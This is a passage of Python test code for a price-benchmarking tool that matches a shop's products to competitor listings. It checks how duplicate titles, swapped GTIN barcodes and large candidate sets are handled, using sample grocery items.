    # paired in file order; at 1.00-5.00 again after the comparison, which reads 5x as one
    # product, decided it, until this competitor's own price spread did: `unsettled`).
    ours = [[f"S{n}", "Product", "1.00"] for n in range(5)]
    theirs = [[f"K{n}", "Product", f"{step * n + 1}.00"] for n in range(5)]
    rival = run_commands(workspace, tmp_path, ours, theirs)
    found = statuses(workspace)
    assert found and {status for status, _ in found.values()} == {"proposed"}
    assert all("5 of our products and 5 of their listings have this title" in reason for _, reason in found.values())
    assert rival["matched"] == rival["pairs"] == 0 and rival["price_index"] is None
    # Told apart by anything else (here a GTIN on one pair), that pair is matched on it.
    ours[0].append("4006381333931")
    theirs[0].append("4006381333931")
    for rows in (ours, theirs):
        for row in rows[1:]:
            row.append("")
    second = init_workspace(tmp_path / "second", shop_name="Test Shop", currency="EUR")
    run_commands(second, tmp_path, ours, theirs, columns=("name", "price", "gtin"))
    assert matched_pairs(second) == {"S0": {"K0"}}


def test_one_product_listed_twice_on_each_side_stays_matched(workspace, tmp_path):
    # One title on two rows of each side at prices alike: one product listed again, which the twin
    # and duplicate rules take; any pairing gives the same prices, so it is no guess.
    name = "Barilla Spaghetti n.5 500 g"
    rival = run_commands(workspace, tmp_path, [["A1", name, "2.00"], ["A2", name, "2.00"], ["B", "Nutella 400 g", "3.00"]],
                         [["K1", name, "2.50"], ["K2", name, "2.60"], ["K3", "Nutella 400 g", "3.50"]])
    matched = matched_pairs(workspace)
    assert {"A1", "A2", "B"} <= set(matched) and matched["B"] == {"K3"}
    assert rival["pairs"] == 3


def test_listings_carrying_the_gtin_of_another_of_our_products_are_proposed(workspace, tmp_path):
    # Every listing is one of our products by its title and another by its GTIN: the barcode was
    # copied onto the wrong product (here, swapped), and nothing says which of the two is wrong.
    gtins = ["4006381333931", "5449000000996", "3017620422003"]
    names = ["Barilla Spaghetti n.5 500 g", "Bertolli Extra Virgin Olive Oil 1 l", "Nutella hazelnut spread 400 g"]
    ours = [[f"S{n}", name, "2.00", gtin] for n, (name, gtin) in enumerate(zip(names, gtins))]
    theirs = [[f"K{n}", name, "3.00", gtins[(n + 1) % 3]] for n, name in enumerate(names)]
    rival = run_commands(workspace, tmp_path, ours, theirs, columns=("name", "price", "gtin"))
    found = statuses(workspace)
    gtin_pairs = {(f"S{(n + 1) % 3}", f"K{n}") for n in range(3)}
    assert gtin_pairs <= set(found)
    for pair in gtin_pairs:
        status, reason = found[pair]
        assert status == "proposed" and "but their title is that of our" in reason, (pair, reason)
    assert rival["matched"] == 0
    # A GTIN on two titles that share no word, and no other product of ours named by theirs: matched.
    second = init_workspace(tmp_path / "second", shop_name="Test Shop", currency="EUR")
    run_commands(second, tmp_path / "second", [["S0", "Cola 330ml", "1.00", gtins[1]]],
                 [["K0", "Refreshing soft drink can", "1.10", gtins[1]]], columns=("name", "price", "gtin"))
    assert matched_pairs(second) == {"S0": {"K0"}}


def test_thousands_of_listings_under_one_name_spread_over_our_products_as_candidates():
    """Equal TF-IDF products are taken from each query's own row on (`candidates._top_k`): in one
    fixed order every listing chose the same five of ours, which then had 1,500 candidates each
    and the duplicate test compared them two by two (quadratic time and memory). And a block of
    query rows is cut by the postings it touches, so titles that all share a word do not make one
    block of every pair."""
    import numpy as np
    import pandas as pd

    from benchmark.matching import candidates
    from benchmark.matching.features import _frame, _prepare

    n = 1500
    ours = _frame(pd.DataFrame({"sku": [f"S{i}" for i in range(n)], "name": "Product"}), "sku")
    theirs = _frame(pd.DataFrame({"competitor_product_id": [f"K{i}" for i in range(n)], "name": "Product"}),
                    "competitor_product_id")
    features = _prepare(ours, theirs, 1)
    pairs, _ = candidates.candidate_pairs(*features)
    per_product = np.bincount([i for i, _ in pairs], minlength=n)
    per_listing = np.bincount([j for _, j in pairs], minlength=n)
    assert per_product.max() <= 2 * candidates.CANDIDATES and per_listing.max() <= 2 * candidates.CANDIDATES
    x, y = candidates._vectors(*features[:2])
    blocks = candidates._blocks(x, y.T.tocsr(), 2000, 500_000)
    assert len(blocks) > 1 and all((stop - start) * n <= 500_000 for start, stop in blocks)
